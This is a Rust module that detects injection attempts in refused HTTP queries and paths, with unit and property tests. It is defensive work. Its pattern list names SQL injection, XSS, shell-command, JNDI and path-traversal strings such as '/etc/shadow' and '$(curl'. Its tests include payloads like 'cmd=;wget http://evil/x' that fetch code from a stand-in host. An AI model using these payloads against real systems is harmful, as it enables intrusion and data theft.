//! Whether a query or a path has what only those write who try to get out of a string: SQL, scripts, commands, other directories.
//!
//! Nothing is kept out by this, as values never become SQL here. It tells who tries, and only of requests that were refused is it asked: so it may
//! be a short list of what is unmistakable, and an honest search for "union select" finds what it finds. Why this is no library:
//! docs/decisions/0013-who-is-banned.md.

use std::borrow::Cow;

/// Whether it tries. `text` is as it was sent; it is decoded twice, as some do to pass by those who decode once.
pub fn is_injection(text: &str) -> bool {
    let text = &text[..text.floor_char_boundary(LONGEST)];
    let once = decoded(text);
    let twice = decoded(&once);
    let plain = flat(&twice);
    ANYWHERE.iter().any(|pattern| plain.contains(pattern)) || is_tautology(&plain)
}

/// So much of it is looked at.
const LONGEST: usize = 4096;

fn decoded(text: &str) -> Cow<'_, str> {
    percent_encoding::percent_decode_str(text).decode_utf8_lossy()
}

/// In lower case, without SQL's comments, each run of spaces as one.
fn flat(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(first) = rest.chars().next() {
        if let Some(comment) = rest.strip_prefix("/*") {
            rest = comment.find("*/").map_or("", |end| &comment[end + 2..]);
        } else {
            rest = &rest[first.len_utf8()..];
            if !first.is_whitespace() && first != '+' && first != '\0' {
                out.extend(first.to_lowercase());
                continue;
            }
        }
        if !out.ends_with(' ') {
            out.push(' ');
        }
    }
    out
}

/// What nothing harmless has. In the form that `flat` gives.
const ANYWHERE: &[&str] = &[
    // SQL: another statement, another table, waiting to see whether it runs.
    "union select",
    "union all select",
    "' union",
    "'; drop ",
    "';drop ",
    "; drop table",
    "'; delete ",
    "'; insert ",
    "'; update ",
    "'; select ",
    "';select ",
    "; exec ",
    "xp_cmdshell",
    "information_schema.",
    "pg_sleep(",
    "' or sleep(",
    "waitfor delay",
    "benchmark(",
    "extractvalue(",
    "updatexml(",
    "load_file(",
    "into outfile",
    "into dumpfile",
    "pg_read_file(",
    "dbms_pipe",
    // Scripts.
    "<script",
    "javascript:",
    "onerror=",
    "onload=",
    "<svg/on",
    "<iframe",
    "document.cookie",
    // Commands, templates, look-ups.
    "${jndi:",
    "$(curl",
    "$(wget",
    ";wget ",
    "; wget ",
    ";curl ",
    "; curl ",
    "|/bin/",
    ";/bin/",
    "/bin/sh",
    "/bin/bash",
    "`id`",
    "$(id)",
    "{{7*7}}",
    "<?php",
    "php://",
    "expect://",
    "file:///",
    // Other directories.
    "../../",
    "..\\..\\",
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/",
    "win.ini",
];

/// `' or 1=1`, `" or "a"="a`, `') or ('x'='x`: a quote that ends a string, and a condition that is always so.
fn is_tautology(plain: &str) -> bool {
    let follows = |(at, _): (usize, &str)| {
        let rest = plain[at + 1..].trim_start_matches([')', ' ']);
        let rest = ["or ", "and ", "|| ", "&& "].iter().find_map(|word| rest.strip_prefix(word));
        rest.is_some_and(|rest| {
            let clean = |text: &str| text.trim_matches([' ', '(', ')', '\'', '"']).to_owned();
            let Some((left, right)) = rest.split_once('=') else { return false };
            let right = right.split([' ', '-', '#', ';', '&']).find(|word| !word.is_empty()).unwrap_or_default();
            let (left, right) = (clean(left), clean(right));
            !left.is_empty() && left.len() <= 32 && left == right
        })
    };
    plain.match_indices(['\'', '"']).any(follows)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn what_is_tried_is_known() {
        for text in [
            "id=1%27%20OR%20%271%27%3D%271",
            "id=1' or 1=1--",
            "name=x')%20or%20('x'='x",
            "q=1+UNION+ALL+SELECT+null,version()",
            "q=1/**/union/**/select/**/password",
            "q=1;+DROP+TABLE+users",
            "id=1%2527%2520or%25201%253d1",
            "id=(select+pg_sleep(5))",
            "q=<script>alert(1)</script>",
            "q=%3Csvg/onload=alert(1)%3E",
            "x=${jndi:ldap://evil/a}",
            "file=../../../../etc/passwd",
            "/static/%2e%2e/%2e%2e/secret",
            "cmd=;wget http://evil/x",
        ] {
            assert!(is_injection(text), "{text}");
        }
    }

    #[test]
    fn what_people_and_clients_write_is_no_attack() {
        for text in [
            "",
            "select=*,actors(name)&year=gt.2000",
            "select=title,actors!inner(name)&or=(a.eq.1,b.in.(2,3))",
            "name=eq.O%27Brien",
            "name=eq.%22Rock%20and%20Roll%22",
            "name=ilike.*it's%20mine%20or%20yours*",
            "title=eq.Alice's and Bob's = theirs",
            "data->>key=eq.%7B%22a%22:1%7D",
            "tags=cs.{a,\"b c\"}",
            "q=how to select a union",
            "redirect_to=https://example.com/welcome?next=%2Fhome",
            "/storage/v1/object/public/photos/a..b/cat (1).jpg",
            "order=created_at.desc&limit=10&offset=20",
            "email=eq.ada%2Btest@example.com",
        ] {
            assert!(!is_injection(text), "{text}");
        }
    }

    proptest! {
        #[test]
        fn nothing_breaks_it(text in "\\PC*") {
            let _ = is_injection(&text);
        }

        #[test]
        fn bytes_of_any_kind_do_not_break_it(bytes in prop::collection::vec(any::<u8>(), 0..6000)) {
            let text: Vec<String> = bytes.iter().map(|byte| format!("%{byte:02x}")).collect();
            let _ = is_injection(&text.concat());
        }
    }
}
